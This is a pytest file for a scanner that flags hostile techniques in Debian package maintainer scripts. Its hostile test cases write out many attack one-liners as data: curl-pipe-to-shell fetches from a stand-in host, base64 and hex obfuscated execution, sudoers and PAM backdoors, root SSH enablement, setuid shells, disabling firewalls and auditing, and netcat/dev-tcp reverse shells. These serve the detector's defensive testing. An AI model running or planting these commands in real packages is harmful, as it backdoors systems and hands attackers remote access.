"""Maintainer-script rules: each technique found at its line; benign scripts stay silent."""

from __future__ import annotations

import base64

import pytest

from aegis.analyze.evidence.scripts import (
    RULE_IDS,
    compare_scripts,
    scan_script,
    scan_scripts,
)
from aegis.devtools import testrepo

SH = "#!/bin/sh\nset -e\n"


def _rules(body: str) -> set[tuple[str, int, str]]:
    return {(f.rule, f.line, f.severity) for f in scan_script("p", "postinst", body.encode())}


# (id, script body after the 2-line header, expected (rule, line, severity) subset)
HOSTILE_CASES = [
    ("curl-pipe-sh", "curl -fsSL http://x.invalid/i.sh | sh\n", ("script.download-exec", 3)),
    ("wget-pipe-bash", "wget -qO- https://x.invalid/i | sudo bash\n", ("script.download-exec", 3)),
    ("sh-c-subst", 'sh -c "$(curl -s http://x.invalid/a)"\n', ("script.download-exec", 3)),
    ("bash-procsub", "bash <(wget -qO- http://x.invalid/a)\n", ("script.download-exec", 3)),
    ("curl-pipe-python", "curl -s http://x.invalid/a | python3\n", ("script.download-exec", 3)),
    (
        "download-then-run",
        "curl -so /tmp/.x http://x.invalid/a\nchmod +x /tmp/.x\n/tmp/.x\n",
        ("script.download-exec", 4),
    ),
    (
        "quote-split",
        "c''url -s http://x.invalid/a | s\"\"h\n",
        ("script.download-exec", 3),
    ),
    ("ifs", "curl${IFS}-s${IFS}http://x.invalid/a|sh\n", ("script.download-exec", 3)),
    (
        "continuation",
        "curl -fsSL \\\n  http://x.invalid/a \\\n  | sh\n",
        ("script.download-exec", 3),
    ),
    ("base64-pipe", "echo ZWNobyBoaQo= | base64 -d | sh\n", ("script.decoded-exec", 3)),
    (
        "decode-then-run",
        "base64 --decode /usr/share/p/blob > /tmp/x\nchmod 755 /tmp/x\nsh /tmp/x\n",
        ("script.decoded-exec", 5),
    ),
    ("decode-to-eval", 'eval "$(echo Y3VybCB4 | base64 -d)"\n', ("script.decoded-exec", 3)),
    ("xxd", "echo 6375726c | xxd -r -p | sh\n", ("script.decoded-exec", 3)),
    (
        "printf-hex",
        "$(printf '\\x63\\x75\\x72\\x6c') http://x.invalid\n",
        ("script.decoded-exec", 3),
    ),
    ("printf-octal", "c=$(printf '\\143\\165\\162\\154')\n", ("script.decoded-exec", 3)),
    (
        "python-b64",
        "python3 -c 'import base64;exec(base64.b64decode(\"eA==\"))'\n",
        ("script.decoded-exec", 3),
    ),
    (
        "eval-of-decoded-var",
        'p=$(echo Y3VybCB4 | base64 -d)\nif true; then\n    eval "$p"\nfi\n',
        ("script.decoded-exec", 5),
    ),
    (
        "payload-decodes-to-download",
        "x=" + base64.b64encode(b"curl -s http://x.invalid/a | sh").decode() + "\n",
        ("script.download-exec", 3),
    ),
    ("sudoers-append", 'echo "u ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n', ("script.sudoers", 3)),
    ("sudoers-d-tee", "echo x | tee /etc/sudoers.d/zz\n", ("script.sudoers", 3)),
    (
        "sudoers-heredoc",
        "cat > /etc/sudoers.d/x <<EOF\nbob ALL=(ALL) NOPASSWD: ALL\nEOF\n",
        ("script.sudoers", 4),
    ),
    (
        "pam-permit",
        "echo 'auth sufficient pam_permit.so' >> /etc/pam.d/common-auth\n",
        ("script.pam", 3),
    ),
    ("sshd-root", "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config\n", ("script.sshd", 3)),
    (
        "sshd-sed-root",
        "sed -i 's/^#*PermitRootLogin .*/PermitRootLogin yes/' /etc/ssh/sshd_config\n",
        ("script.sshd", 3),
    ),
    (
        "authorized-keys",
        "cat key.pub >> /root/.ssh/authorized_keys\n",
        ("script.authorized-keys", 3),
    ),
    ("ld-preload", "echo /lib/x.so > /etc/ld.so.preload\n", ("script.ld-preload", 3)),
    (
        "apt-hook",
        "echo 'DPkg::Post-Invoke {\"x\";};' > /etc/apt/apt.conf.d/99x\n",
        ("script.apt-config", 3),
    ),
    ("uid0", "useradd -o -u 0 -g 0 toor\n", ("script.user-create", 3)),
    ("sudo-group", "usermod -aG sudo backup\n", ("script.user-create", 3)),
    (
        "passwd-line",
        "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd\n",
        ("script.user-create", 3),
    ),
    ("shadow-write", "cat x > /etc/shadow\n", ("script.user-create", 3)),
    ("suid-shell", "chmod u+s /bin/bash\n", ("script.setuid", 3)),
    ("suid-python-octal", "chmod 4755 /usr/bin/python3\n", ("script.setuid", 3)),
    ("ufw", "ufw --force disable\n", ("script.disable-security", 3)),
    ("iptables-flush", "iptables -F\n", ("script.disable-security", 3)),
    ("iptables-accept", "iptables -P INPUT ACCEPT\n", ("script.disable-security", 3)),
    ("setenforce", "setenforce 0 || true\n", ("script.disable-security", 3)),
    ("stop-apparmor", "systemctl stop apparmor.service\n", ("script.disable-security", 3)),
    ("mask-auditd", "systemctl mask --now auditd\n", ("script.disable-security", 3)),
    ("history", "unset HISTFILE\n", ("script.disable-security", 3)),
    ("nc-listen", "nc -lvp 4444 -e /bin/sh &\n", ("script.listener", 3)),
    ("socat", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh &\n", ("script.listener", 3)),
    ("dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", ("script.listener", 3)),
]


@pytest.mark.parametrize(
    ("body", "expected"),
    [(b, e) for _, b, e in HOSTILE_CASES],
    ids=[i for i, _, _ in HOSTILE_CASES],
)
def test_hostile_technique_found_at_its_line(body: str, expected: tuple[str, int]) -> None:
    found = _rules(SH + body)
    assert (*expected, "hostile") in found, found


SENSITIVE_CASES = [
    ("adduser-system", "adduser --system --group --home /var/lib/x x\n", ("script.user-create", 3)),
    ("cron", "crontab /usr/share/x/crontab\n", ("script.cron", 3)),
    ("cron-d", "cp x /etc/cron.d/x\n", ("script.cron", 3)),
    ("unit", "cp x.service /etc/systemd/system/\n", ("script.systemd-unit", 3)),
    ("enable", "systemctl enable x.service\n", ("script.systemd-unit", 3)),
    ("setuid-helper", "chmod u+s /usr/lib/x/helper\n", ("script.setuid", 3)),
    (
        "statoverride",
        "dpkg-statoverride --update --add root x 4754 /usr/lib/x/h\n",
        ("script.setuid", 3),
    ),
    ("stop-other", "systemctl stop x.service\n", ("script.disable-security", 3)),
    ("pam-auth-update", "pam-auth-update --package\n", ("script.pam", 3)),
    (
        "fetch-only",
        "wget -q http://x.invalid/data.tgz -O /var/lib/x/data.tgz\n",
        ("script.network", 3),
    ),
    ("eval-var", 'eval "$cmd"\n', ("script.dynamic-eval", 3)),
    ("decode-to-file", "base64 -d > /tmp/f.tgz << EOF\n", ("script.decoded-exec", 3)),
    # Distribution packages manage these files (sudo, openssh-server do exactly this).
    ("sudoers-chmod", "chmod 440 /etc/sudoers\n", ("script.sudoers", 3)),
    ("sudoers-restore", "mv /etc/sudoers.pre-conffile /etc/sudoers\n", ("script.sudoers", 3)),
    (
        "sshd-candidate",
        "sed -i 's/^#*PermitRootLogin .*/PermitRootLogin yes/' \"$new_config\"\n",
        ("script.sshd", 3),
    ),
]


@pytest.mark.parametrize(
    ("body", "expected"),
    [(b, e) for _, b, e in SENSITIVE_CASES],
    ids=[i for i, _, _ in SENSITIVE_CASES],
)
def test_sensitive_technique(body: str, expected: tuple[str, int]) -> None:
    found = _rules(SH + body)
    assert (*expected, "sensitive") in found, found
    assert not any(sev == "hostile" for _, _, sev in found), found


BENIGN = [
    ("brief", 'set -e\nmkdir -p "${DPKG_ROOT:-}/var/lib/x"\necho configured\n'),
    (
        "debhelper",
        SH
        + 'if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ]; then\n'
        + "    deb-systemd-helper unmask 'x.service' >/dev/null || true\n"
        + "    if deb-systemd-helper --quiet was-enabled 'x.service'; then\n"
        + "        deb-systemd-helper enable 'x.service' >/dev/null || true\n"
        + "    fi\nfi\n"
        + "if [ -d /run/systemd/system ]; then\n"
        + "    systemctl --system daemon-reload >/dev/null || true\n"
        + "    deb-systemd-invoke restart 'x.service' >/dev/null || true\n"
        + "fi\n",
    ),
    ("comments", SH + "# curl http://x | sh  -- never do this\n# echo x >> /etc/sudoers\n"),
    ("apt-config-eval", SH + "eval $(apt-config shell STATE Dir::State)\n"),
    ("ldconfig", SH + 'if [ "$1" = configure ]; then ldconfig; fi\n'),
    ("binary-magic", SH + '[ "$(head -c4 f)" != "$(echo -en \'\\xfe\\xed\\xfe\\xed\')" ]\n'),
    ("adduser-conf-text", SH + 'printf "moving unchanged adduser.conf\\n"\n'),
    ("root-line", SH + "cat > /etc/passwd <<'EOF'\nroot:*:0:0:root:/root:/bin/bash\nEOF\n"),
    ("sighup", SH + "systemctl kill --signal=SIGHUP x\n"),
    ("selinux-default", SH + "SELINUX=permissive\n"),
    ("purge-init-links", SH + "update-rc.d apparmor remove >/dev/null\n"),
]


def test_security_package_may_stop_its_own_service() -> None:
    body = SH + "invoke-rc.d ufw stop || true\nsystemctl disable ufw.service\n"
    assert scan_script("ufw", "prerm", body.encode()) == ()
    other = {(f.rule, f.severity) for f in scan_script("evil", "prerm", body.encode())}
    assert other == {("script.disable-security", "hostile")}


@pytest.mark.parametrize("body", [b for _, b in BENIGN], ids=[i for i, _ in BENIGN])
def test_benign_scripts_produce_no_hostile_finding(body: str) -> None:
    found = _rules(body)
    if body.startswith("set -e\nmkdir"):
        assert found == set()
    assert not any(sev == "hostile" for _, _, sev in found), found


def test_benign_fixture_scripts_produce_nothing() -> None:
    for spec in testrepo.DEFAULT_PACKAGES:
        if spec.name != "aegis-benign":
            continue
        for name, body in spec.scripts.items():
            assert scan_script(spec.name, name, body.encode()) == ()


@pytest.mark.parametrize(
    ("package", "expected"),
    [
        (
            "aegis-hostile",
            {
                ("script.download-exec", 4),
                ("script.sudoers", 7),
                ("script.decoded-exec", 8),
            },
        ),
        (
            "aegis-obfuscated",
            {
                ("script.decoded-exec", 3),
                ("script.download-exec", 4),
                ("script.download-exec", 6),
                ("script.download-exec", 7),
                ("script.sudoers", 10),
            },
        ),
    ],
    ids=["plain", "obfuscated"],
)
def test_repo_hostile_fixtures(package: str, expected: set[tuple[str, int]]) -> None:
    spec = next(s for s in testrepo.DEFAULT_PACKAGES if s.name == package)
    findings = scan_script(package, "postinst", spec.scripts["postinst"].encode())
    hostile = {(f.rule, f.line) for f in findings if f.severity == "hostile"}
    assert expected <= hostile, hostile
    assert all(f.package == package and f.file == "postinst" for f in findings)


def test_excerpt_is_the_line_and_capped() -> None:
    body = SH + "curl http://x.invalid/" + "a" * 500 + " | sh\n"
    (f,) = [
        f for f in scan_script("p", "postinst", body.encode()) if f.rule == "script.download-exec"
    ]
    assert f.excerpt.startswith("curl http://x.invalid/aaa")
    assert len(f.excerpt) <= 200


@pytest.mark.parametrize(
    "body",
    [b"\x7fELF\x02\x01\x01", b"#!/bin/sh\n\x00\x00", b"\xff\xfe bad utf8"],
    ids=["elf", "nul", "latin"],
)
def test_binary_script_is_hostile(body: bytes) -> None:
    (f,) = scan_script("p", "preinst", body)
    assert (f.rule, f.severity) == ("script.binary", "hostile")


def test_one_finding_per_rule_and_line_and_order() -> None:
    body = SH + "curl http://a.invalid | sh; curl http://b.invalid | sh\nufw disable\n"
    findings = scan_script("p", "postinst", body.encode())
    keys = [(f.line, f.rule) for f in findings]
    assert keys == sorted(set(keys))
    assert ("script.download-exec", 3) in {(f.rule, f.line) for f in findings}


def test_compare_new_and_changed() -> None:
    old = {"postinst": b"#!/bin/sh\necho a\necho b\n", "prerm": b"#!/bin/sh\n"}
    new = {
        "postinst": b"#!/bin/sh\necho a\necho c\n",
        "prerm": b"#!/bin/sh\n",
        "preinst": b"#!/bin/sh\n",
    }
    found = {(f.rule, f.file, f.line, f.severity) for f in compare_scripts("p", new, old)}
    assert found == {
        ("script.changed", "postinst", 3, "changed"),
        ("script.new", "preinst", 1, "changed"),
    }


def test_scan_scripts_without_previous_has_no_change_findings() -> None:
    scripts = {"postinst": b"#!/bin/sh\necho hi\n"}
    assert scan_scripts("p", scripts, None) == ()
    assert [f.rule for f in scan_scripts("p", scripts, {})] == ["script.new"]


def test_rule_ids_are_stable() -> None:
    assert "script.download-exec" in RULE_IDS
    assert len(RULE_IDS) == len(set(RULE_IDS))
    assert all(r.startswith("script.") for r in RULE_IDS)
